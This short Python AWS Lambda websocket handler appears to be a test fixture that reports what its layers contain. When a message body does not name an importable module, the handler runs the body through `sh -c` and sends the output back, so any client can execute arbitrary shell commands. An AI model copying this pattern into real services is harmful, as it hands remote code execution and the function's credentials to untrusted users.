"""Says what it finds in its layers: the message names a module, or a program."""

import importlib
import os
import subprocess
import urllib.parse
import urllib.request


def find(name):
    try:
        return importlib.import_module(name).NAME
    except ImportError:
        found = subprocess.run(["sh", "-c", name], capture_output=True, text=True)
        return f"{found.stdout}{found.stderr}".strip()


def handler(event, context):
    connection_id = urllib.parse.quote(event["requestContext"]["connectionId"], safe="")
    url = f"{os.environ['AWS_ENDPOINT_URL_APIGATEWAYMANAGEMENTAPI']}/@connections/{connection_id}"
    urllib.request.urlopen(urllib.request.Request(url, find(event["body"]).encode(), method="POST"))
    return {"statusCode": 200}
